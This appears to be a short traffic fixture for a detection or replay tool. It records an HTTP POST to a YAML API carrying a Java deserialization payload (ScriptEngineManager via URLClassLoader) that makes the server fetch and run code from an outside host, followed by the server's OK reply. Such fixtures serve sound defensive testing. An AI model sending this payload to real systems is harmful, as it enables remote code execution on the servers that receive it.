# YAML document that makes a Java script engine.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /api/yaml HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/yaml\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 107\r\n
\r\n
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.51.100.7/"]]]]\n

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
